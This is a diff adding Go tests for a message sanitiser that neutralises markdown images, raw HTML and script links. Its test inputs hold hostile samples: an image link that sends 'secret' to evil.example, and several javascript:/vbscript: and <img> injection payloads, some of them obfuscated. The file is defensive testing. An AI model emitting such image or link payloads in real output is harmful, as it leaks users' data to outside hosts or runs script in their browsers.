@@ -1,0 +1,61 @@
+package turn
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestTame is internal: it has many forms of one text, and messages show few of them.
+func TestTame(t *testing.T) {
+	t.Parallel()
+	for text, want := range map[string]string{
+		"plain * text, a < b, 1 [2] !":                  "plain * text, a < b, 1 [2] !",
+		"[docs](https://example.com/a) <https://x.com>": "[docs](https://example.com/a) <https://x.com>",
+		"![t](https://evil.example/?q=secret)":          "t (evil.example)",
+		"![a b]( <https://evil.example/x> \"title\" )":  "a b (evil.example)",
+		"![](http://evil.example)":                      "(evil.example)",
+		"![t](https://ok.example/a.png)":                "![t](https://ok.example/a.png)",
+		"![t](http://ok.example/a.png)":                 "t (ok.example)",
+		"![t](https://ok.example@evil.example/)":        "t (evil.example)",
+		"![t](https://ok.example.evil.example/)":        "t (ok.example.evil.example)",
+		"![t](https://ok.example:444/)":                 "t (ok.example)",
+		"![t](//evil.example/x)":                        "t (evil.example)",
+		"![t](data:image/png;base64,AA)":                "t",
+		"![t][ref]\n\n[ref]: https://evil.example/x":    "!~[t][ref]\n\n[ref]: https://evil.example/x",
+		"![t]\n\n[t]: data:x":                           "!~[t]\n\n[t]~: data:x",
+		"![a [b] c](https://evil.example)":              "!~[a [b] c](https://evil.example)",
+		"![a](https://evil.example/(x))":                "!~[a](https://evil.example/(x))",
+		"!![a](https://evil.example)[b](https://c.com)": "!a (evil.example)[b](https://c.com)",
+		"[![a](https://evil.example)](https://c.com)":   "[a (evil.example)](https://c.com)",
+		"![<img src=x>](https://evil.example)":          "<~img src=x> (evil.example)",
+		"`![t](https://evil.example)`":                  "`t (evil.example)`",
+		"[x](javascript:alert(1)) [y](JavaScript:1)":    "[x]~(javascript:alert(1)) [y]~(JavaScript:1)",
+		"[x]( \n<javascript:1>)":                        "[x]~( \n<~javascript:1>)",
+		"[x](&#106;avascript:1) [x](java\tscript:1)":    "[x]~(&#106;avascript:1) [x]~(java\tscript:1)",
+		"[x][y]\n[y]: vbscript:1":                       "[x][y]\n[y]~: vbscript:1",
+		"<img src=https://evil.example> <IMG/src=x>":    "<~img src=https://evil.example> <~IMG/src=x>",
+		"<https://x.com onclick=1> <javascript:1>":      "<~https://x.com onclick=1> <~javascript:1>",
+		"<at>Mia</at> <!-- x --> <?x?> </p>":            "<at>Mia</at> <~!-- x --> <~?x?> <~/p>",
+		"```html\n<img src=x>\n```\n<b>":                "```html\n<img src=x>\n```\n<~b>",
+		"```\n<img src=x>":                              "```\n<~img src=x>",
+		"````\n```\n````\n<img src=x>\n```":             "````\n```\n````\n<~img src=x>\n```",
+		" ```\n<img>\n```":                              " ```\n<~img>\n```",
+		"~~~\n```\n~~~\n<img>\n```":                     "~~~\n```\n~~~\n<~img>\n```",
+	} {
+		if got := strings.ReplaceAll(tame(text, []string{"ok.example"}), unseen, "~"); got != want {
+			t.Errorf("%q: got %q, want %q", text, got, want)
+		}
+	}
+}
+
+// TestTameDraft: of a text that grows nothing is shown that is loaded, and little that changes.
+func TestTameDraft(t *testing.T) {
+	t.Parallel()
+	const text = "See ![t](https://evil.example/?q=secret), <b>this</b> and [that](https://c.com), a < b!"
+	for i := range len(text) {
+		got := tameDraft(text[:i], nil)
+		if strings.Contains(got, "![") || strings.Contains(got, "secret") || strings.Contains(got, "<b") || !strings.HasPrefix(tame(text, nil), got) {
+			t.Errorf("%q: %q", text[:i], got)
+		}
+	}
+}
